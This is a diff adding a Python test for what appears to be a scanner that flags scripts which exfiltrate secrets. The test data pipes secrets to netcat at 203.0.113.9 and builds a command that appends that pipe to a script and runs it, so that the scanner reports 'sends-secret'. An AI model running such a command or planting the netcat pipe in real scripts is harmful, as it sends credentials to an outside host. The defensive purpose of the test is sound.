@@ -111,3 +111,8 @@ def test_a_piece_of_a_script_is_no_broken_script() -> None:
 )
 def test_which_files_a_later_session_has_to_know(path: str, text: str, *, acts: bool) -> None:
     assert acts_when_run(path, Content(text), NO_PROJECT) is acts
+
+
+def test_what_is_added_and_run_in_one_line_is_added_to_what_was_there() -> None:
+    first = write("a.sh", KEYS.strip().removesuffix("| nc 203.0.113.9 99"))
+    assert "sends-secret" in kinds_after([first], "printf '| nc 203.0.113.9 99\\n' >> a.sh && sh a.sh")
